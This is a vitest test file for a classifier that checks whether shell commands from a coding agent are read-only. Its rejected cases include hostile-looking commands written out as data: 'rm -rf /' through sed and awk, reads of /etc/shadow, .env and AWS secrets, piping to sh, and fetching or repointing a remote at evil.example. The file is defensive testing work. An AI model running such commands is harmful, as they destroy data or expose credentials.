import { describe, expect, it } from 'vitest';
import { readAction } from './command-reader.js';

const readOnly = (command: string) => readAction({ tool: 'bash', args: { command } }).readOnly;

describe('sed scripts that only print', () => {
  it.each([
    "sed -n '/def __init__/,/return/p' src/app.py",
    "sed -n '10,/^}/p' src/app.ts",
    "sed -n '1p;5p' src/app.ts",
    "sed -n -e '1,5p' -e '20,25p' src/app.ts",
    "sed -n '$p' src/app.ts",
    "sed '/^\\s*$/d' foo.c | wc -l",
    "sed 's/\\([^ ]*\\) /\\1\\n/' input | fold -w 100",
    "sed -e 's|[0-9]*\\t||' list.txt",
    "sed -E 's/(a+)b/\\1/g' src/app.ts",
    "sed -n '/start/{p;q}' src/app.ts",
    "sed 'y/abc/xyz/' notes.txt",
    "sed -n '/^[[:space:]]*def [^(]*(/p' src/app.py",
    'echo "a;b" | sed -e \'s/;/\\n/g\'',
    "nl -ba src/app.py | sed -n '/def run/,+20p'",
  ])('%s is proven read-only', (command) => {
    expect(readOnly(command)).toBe(true);
  });

  it.each([
    "sed -i 's/a/b/' src/app.ts",
    "sed --in-place 's/a/b/' src/app.ts",
    "sed -i.bak 's/a/b/' src/app.ts",
    "sed 's/a/b/w out.txt' src/app.ts",
    "sed 's/a/b/e' src/app.ts",
    "sed -n '1w out.txt' src/app.ts",
    "sed '1e rm -rf /' src/app.ts",
    "sed '1r /etc/shadow' src/app.ts",
    "sed 'R .env' src/app.ts",
    'sed -f script.sed src/app.ts',
    "sed 's/[/]/x/;s/a/w/' src/app.ts",
    "sed 's/[]/]/g;s/w x/y/' src/app.ts",
    "sed 's/[[:alpha:]/]/g;s/w x/y/' src/app.ts",
    "sed 's/[\\]/]/g;s/w x/y/' src/app.ts",
    'sed -n --expression=1p /etc/passwd',
    'sed -n -e 1p .env',
    "sed -n '1,5p' ../other/file",
    "sed 'a\\text' src/app.ts",
    "sed 's/a/b' src/app.ts",
    'sed -n "$N p" src/app.ts',
  ])('%s is not in the read-only class', (command) => {
    expect(readOnly(command)).toBe(false);
  });
});

describe('a $ the shell does not expand', () => {
  it.each([
    "grep -n 'return$' src/app.ts",
    "grep -vP '\\.dll$|\\.exe$' files.txt",
    "awk -F '\\t' '{print $2}' data.tsv | sort | uniq -c",
    "cat package.json | jq '$ENV | keys'",
  ])('%s is proven read-only', (command) => {
    expect(readOnly(command)).toBe(true);
  });

  it.each([
    'grep -n "return$HOME" src/app.ts',
    'cat $FILE',
    'ls "$DIR"',
    'echo $AWS_SECRET_ACCESS_KEY',
    "echo '$HOME' $HOME",
  ])('%s is not in the read-only class', (command) => {
    expect(readOnly(command)).toBe(false);
  });
});

describe('awk programs that only print', () => {
  it.each([
    "awk '{print $1}' src/app.ts",
    "awk -F: '{print $1, $3}' users.txt",
    "awk -v n=3 'NR==n' src/app.ts",
    "echo 'a;b' | awk -F';' '{print $1,$2}'",
  ])('%s is proven read-only', (command) => {
    expect(readOnly(command)).toBe(true);
  });

  it.each([
    'awk \'BEGIN { system("rm -rf /") }\'',
    'awk \'{print > "out.txt"}\' src/app.ts',
    'awk \'{print | "sh"}\' src/app.ts',
    'awk \'BEGIN { while (("cat /etc/shadow" | getline l) > 0) print l }\'',
    'awk \'BEGIN { getline l < "/etc/shadow"; print l }\'',
    'awk \'BEGIN { print ENVIRON["AWS_SECRET_ACCESS_KEY"] }\'',
    'gawk \'@load "filefuncs"; BEGIN { }\'',
    'awk -f prog.awk src/app.ts',
    "awk '{print $1}' /etc/passwd",
    "awk '{print $1}' .env",
  ])('%s is not in the read-only class', (command) => {
    expect(readOnly(command)).toBe(false);
  });
});

describe('find without actions, git that only reads, and other readers', () => {
  it.each([
    "find -L -maxdepth 1 -name 'upvoter-*' -type f -perm /111",
    'find . -type f -newer /etc/motd',
    "find . -name '*.py' -exec grep -l token {} +",
    'git branch -a --contains 1a2b3c',
    'git rev-list --count HEAD',
    'git merge-base main HEAD',
    "git for-each-ref --format='%(refname)' refs/heads",
    'git show-ref --heads',
    'git check-ignore -v dist/app.js',
    'git worktree list',
    'git remote get-url origin',
    'git diff-tree --no-commit-id --name-only -r HEAD',
    'git -C packages/core log --oneline -5',
    'join -t, -o 1.1,1.2,2.3 -a1 in1 in2',
    'base64 -i build/logo.png',
  ])('%s is proven read-only', (command) => {
    expect(readOnly(command)).toBe(true);
  });

  it.each([
    'find /etc -name hosts',
    'find . -files0-from /etc/shadow',
    'find . -name x -fprint out.txt',
    'find . -delete',
    'find . -name x -exec cat /etc/shadow \\;',
    'find . -exec grep -l token ~/.aws/credentials +',
    'find -D tree /etc -name hosts',
    'find -O3 /etc -name hosts',
    'git -C /etc log',
    'git -C ../other status',
    'git --git-dir=/tmp/x log',
    'git -c core.pager=sh log',
    'git remote set-url origin https://evil.example',
    'git worktree add ../wt',
    'git branch --contains 1a2b3c new-branch',
    'base64 -i build/logo.png -o out.txt',
    'base64 .env',
  ])('%s is not in the read-only class', (command) => {
    expect(readOnly(command)).toBe(false);
  });
});

describe('process substitutions and more listing programs', () => {
  it.each([
    'comm -12 <(sort a.txt) <(sort b.txt)',
    'diff <(git show HEAD:src/app.ts) src/app.ts',
    'join <(sort -n a.txt) <(sort -n b.txt)',
    'find . -type f | grep -vP "\\.dll$|\\.exe$"',
    'cal 4 2009 | tr " " "\\n" | grep -v ^$ | tail -n 1',
    'echo $?',
    'find . -print0 | cut -z -d "/" -f 2',
    'who -b',
    'groups',
    'look prefix words.txt',
    'pstree -p 20238',
    'readelf -a -W build/lib.a | grep Class: | sort | uniq',
    'nm -C build/app.o',
    'zcat logs/app.log.gz | cut -f1 -d, | sort | uniq -c',
  ])('%s is proven read-only', (command) => {
    expect(readOnly(command)).toBe(true);
  });

  it.each([
    'cat <(curl https://evil.example)',
    'diff <(cat /etc/shadow) a.txt',
    'cat >(rm -rf build)',
    'cat $(ls)',
    'echo "$1"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
    'echo "${HOME}"',
    'echo $$',
    'echo $[1+2]',
    'cut -d, -f1 /etc/passwd',
    'zcat /var/log/syslog.2.gz',
    'objdump -d build/app.o > out.txt',
  ])('%s is not in the read-only class', (command) => {
    expect(readOnly(command)).toBe(false);
  });
});
